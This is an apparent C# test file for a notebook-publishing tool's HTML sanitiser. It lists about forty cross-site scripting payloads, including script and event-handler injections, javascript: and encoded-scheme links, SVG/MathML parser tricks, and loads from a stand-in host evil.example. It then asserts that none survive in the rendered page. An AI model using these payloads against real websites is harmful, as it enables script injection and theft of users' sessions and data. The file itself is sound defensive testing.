using AngleSharp.Html.Parser;
using FsCheck;
using FsCheck.Fluent;
using PkoNotebooks.Execution.Documents;
using PkoNotebooks.Publishing.Site;
using static PkoNotebooks.Publishing.Tests.MadeUp;

namespace PkoNotebooks.Publishing.Tests.Sanitising;

/// <summary>What a cell shows may hold anything that data holds. None of it may run, ask for anything, or break the page.</summary>
public sealed class HostileOutputTests
{
    public static TheoryData<string> Attacks => new(
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script type='text/ecmascript'>steal()</script>",
        "<img src=x onerror=steal()>",
        "<img src='https://evil.example/pixel.png'>",
        "<svg onload=steal()><circle r=1 /></svg>",
        "<svg><script>steal()</script></svg>",
        "<svg><a xlink:href='javascript:steal()'><text>x</text></a></svg>",
        "<svg><use href='https://evil.example/x.svg#a'></use></svg>",
        "<svg><image href='https://evil.example/x.png'></image></svg>",
        "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
        "<svg><animate attributeName=href values='javascript:steal()'></animate><set attributeName=onload to=steal()></set></svg>",
        "<svg><style>&lt;/style&gt;&lt;script&gt;steal()&lt;/script&gt;</style></svg>",
        "<svg><title><script>steal()</script></title></svg>",
        "<svg><rect fill='url(https://evil.example/x)' /></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()></style></mglyph></table></mtext></math>",
        "<a href='javascript:steal()'>x</a>",
        "<a href=' jAva\tscript:steal()'>x</a>",
        "<a href='&#106;avascript&colon;steal()'>x</a>",
        "<a href='data:text/html,<script>steal()</script>'>x</a>",
        "<a href='vbscript:steal()'>x</a>",
        "<a href='//evil.example/x'>x</a>",
        "<iframe srcdoc='<script>steal()</script>'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<form action='https://evil.example'><input name=a><button formaction='https://evil.example'>x</button></form>",
        "<input type=image src='https://evil.example/x.png'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<video src='https://evil.example/x.mp4' autoplay></video><audio src='https://evil.example/x'></audio>",
        "<p style='background:url(https://evil.example/x)'>x</p>",
        "<noscript><p title='</noscript><img src=x onerror=steal()>'></noscript>",
        "<template><script>steal()</script></template>",
        "<p id=main>x</p><p id=fact-1>y</p>",
        "<div popover id=a onbeforetoggle=steal()>x</div><button popovertarget=a>y</button>",
        "<!--><script>steal()</script>-->",
        "<textarea></textarea><script>steal()</script></textarea>",
        "<p title=\"--><script>steal()</script>\">x</p>",
        "</main></body></html><script>steal()</script>",
        "<details ontoggle=steal() open><summary>x</summary></details>",
        "<table background='https://evil.example/x'><tr><td>x</td></tr></table>");

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Nothing_hostile_survives_in_an_output(string attack)
    {
        AssertHarmless(await PageAsync(Run("a", Markdown("# T"), Code("data", Shows(attack)))));
        AssertHarmless(await PageAsync(Run("a", Markdown("# T"), Code("data", Bundle("image/svg+xml", attack)))));
        AssertHarmless(await PageAsync(Run("a", Markdown("# T"), Code("data", Bundle("text/markdown", attack)))));
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public async Task Nothing_hostile_survives_in_prose_code_text_errors_or_facts(string attack)
    {
        var quoted = System.Text.Json.Nodes.JsonValue.Create(attack).ToJsonString()[1..^1];
        var run = Run(
            "a",
            Markdown("# T\n\n" + attack),
            Code(attack, Bundle("text/plain", attack), new StreamOutput("stdout", attack)),
            Code("f", Shows(Fact(), FactsJson(text: quoted, note: attack))),
            Code("x", new ErrorOutput(attack, attack, [attack])));
        var site = Input(run) with { Title = attack, Publication = new() { Authors = [attack], Publisher = attack, RepositoryUrl = attack, Version = attack } };
        AssertHarmless(await SiteWriter.PageAsync(site, run, new() { RerunCommand = _ => attack }));
    }

    [Fact]
    public async Task A_script_runs_only_if_the_author_wrote_it_as_a_script()
    {
        const string script = "document.title = 'ours';";
        var authored = await PageAsync(Run("a", Code($"#!html\n<p id='x'></p><script>{script}</script>", Shows($"<script>{script}</script>"))));
        Assert.Contains($"<script>{script}</script>", authored);
        Assert.Contains(Hash(script), Policy(authored));

        var mentioned = await PageAsync(Run("a", Code($"// {script}", Shows($"<script>{script}</script>"))));
        Assert.DoesNotContain($"<script>{script}</script>", mentioned);
        Assert.DoesNotContain(Hash(script), Policy(mentioned));
        Assert.Contains("was left out", mentioned);
    }

    [Fact]
    public async Task A_javascript_cell_runs_as_written_and_a_changed_one_does_not()
    {
        var cell = Code("#!javascript\nlet a = 1;\nshow(a);", Shows("<script type=\"module\">let a = 1;\nshow(a);</script><script>let a = 1;\nshow(a); steal()</script>")) with { KernelName = "javascript" };
        var html = await PageAsync(Run("a", cell));
        Assert.Contains("<script type=\"module\">let a = 1;\nshow(a);</script>", html);
        Assert.DoesNotContain("<script>let a = 1;\nshow(a); steal()", html);
    }

    [Fact]
    public async Task A_script_that_the_host_vouches_for_runs()
    {
        var html = await PageAsync(Run("a", Code("x", Shows("<script>filter()</script>"))), new() { TrustedScripts = ["filter()"] });
        Assert.Contains(Hash("filter()"), Policy(html));
    }

    [Fact]
    public async Task Styles_of_outputs_stand_once_in_the_head_and_are_admitted_by_their_hash()
    {
        const string css = ".light { color: red } @media (width < 600px) { .light { color: blue } }";
        var html = await PageAsync(Run("a", Code("x", Shows($"<style>{css}</style><p>1</p>"), Shows($"<style>{css}</style><p>2</p>"))));
        Assert.Single(System.Text.RegularExpressions.Regex.Matches(html, System.Text.RegularExpressions.Regex.Escape(css)));
        Assert.Contains(Hash(css), Policy(html));
        Assert.DoesNotContain("unsafe", Policy(html));
    }

    [Fact]
    public async Task The_same_identifier_in_two_outputs_is_told_apart_with_its_references()
    {
        const string chart = "<svg aria-labelledby='t'><title id='t'>x</title><clipPath id='c'><rect/></clipPath><g clip-path='url(#c)'></g></svg>";
        var page = new HtmlParser().ParseDocument(await PageAsync(Run("a", Code("x", Shows(chart), Shows(chart)))));
        var charts = page.QuerySelectorAll("svg");
        Assert.Equal(2, charts.Length);
        Assert.All(charts, svg =>
        {
            Assert.Equal(svg.QuerySelector("title")!.Id, svg.GetAttribute("aria-labelledby"));
            Assert.Equal($"url(#{svg.QuerySelector("clipPath")!.Id})", svg.QuerySelector("g")!.GetAttribute("clip-path"));
        });
        Assert.NotEqual(charts[0].GetAttribute("aria-labelledby"), charts[1].GetAttribute("aria-labelledby"));
    }

    [Theory]
    [InlineData("<div>", 5000)]
    [InlineData("<b>", 5000)]
    [InlineData("<div><table><tr><td></div>", 400)]
    [InlineData("<svg><g>", 3000)]
    public async Task Nesting_without_end_becomes_text(string tag, int times)
    {
        var html = await PageAsync(Run("a", Code("x", Shows(string.Concat(Enumerable.Repeat(tag, times))))));
        Assert.Contains("shown as text", html);
    }

    [Fact]
    public void Any_text_in_any_place_comes_out_as_text()
    {
        var words = Gen.Elements("<", ">", "\"", "'", "&", "/", "script", "onload=", " ", "=", "`", "\u202E", "🕊", "日本", "-->", "]]>", "{", "x", "\u0000", "\n")
            .ListOf().Select(l => string.Concat(l));
        Prop.ForAll(words.ToArbitrary(), text =>
        {
            var escaped = PkoNotebooks.Publishing.Html.Markup.Escape(text);
            var parsed = new HtmlParser().ParseDocument($"<p title=\"{escaped}\">{escaped}</p><i></i>");
            var wanted = text.Replace('\0', '\uFFFD');
            return parsed.Body!.ChildElementCount == 2 && parsed.QuerySelector("p")!.TextContent == wanted && parsed.QuerySelector("p")!.GetAttribute("title") == wanted;
        }).QuickCheckThrowOnFailure();
    }

    private static void AssertHarmless(string html)
    {
        var page = new HtmlParser(new HtmlParserOptions { IsScripting = true }).ParseDocument(html);
        var scripts = page.QuerySelectorAll("script").Where(s => s.GetAttribute("type") is not ("application/json" or "application/ld+json")).ToList();
        // The page's own: the one that says that scripts run, before anything is laid out, the one where the first screen ends, and the one that gives it life.
        Assert.InRange(scripts.Count, 2, 3);
        Assert.Equal("head", scripts[0].ParentElement!.LocalName);
        Assert.StartsWith("document.documentElement.className = ", scripts[0].TextContent.Trim());
        Assert.All(scripts.Skip(1).SkipLast(1), s => Assert.Equal(PkoNotebooks.Publishing.Pages.Assets.Below, s.TextContent));
        Assert.Equal(PkoNotebooks.Publishing.Pages.Assets.Script, scripts[^1].TextContent);
        Assert.Single(page.QuerySelectorAll("main"));
        Assert.Empty(page.QuerySelectorAll("iframe, object, embed, base, form, video, audio, template, noscript, math, foreignObject, animate, set, link[rel=stylesheet], textarea"));
        Assert.Equal(1, page.QuerySelectorAll("meta[http-equiv]").Length);
        foreach (var element in page.QuerySelectorAll("*"))
        {
            foreach (var attribute in element.Attributes)
            {
                Assert.False(attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase), $"{element.OuterHtml}");
                Assert.NotEqual("style", attribute.Name);
                if (attribute.LocalName is "href" or "src" or "action" or "formaction" or "background" or "data")
                {
                    Assert.Matches("^(https?://|mailto:|#|data:,$|data:image/(png|jpeg|gif|webp);base64,|[^:]*$)", attribute.Value);
                    Assert.False(attribute.Value.StartsWith("//", StringComparison.Ordinal), attribute.Value);
                }

                if (element.LocalName is not "a" && attribute.LocalName is "href" or "src")
                {
                    Assert.DoesNotContain("evil.example", element.LocalName == "a" ? "" : attribute.Value);
                }
            }
        }

        var ids = page.QuerySelectorAll("[id]").Select(e => e.Id).ToList();
        Assert.Equal(ids.Count, ids.Distinct().Count());
    }

    private static string Policy(string html) =>
        new HtmlParser().ParseDocument(html).QuerySelector("meta[http-equiv='Content-Security-Policy']")!.GetAttribute("content")!;

    private static string Hash(string text) =>
        $"'sha256-{Convert.ToBase64String(System.Security.Cryptography.SHA256.HashData(System.Text.Encoding.UTF8.GetBytes(text)))}'";
}
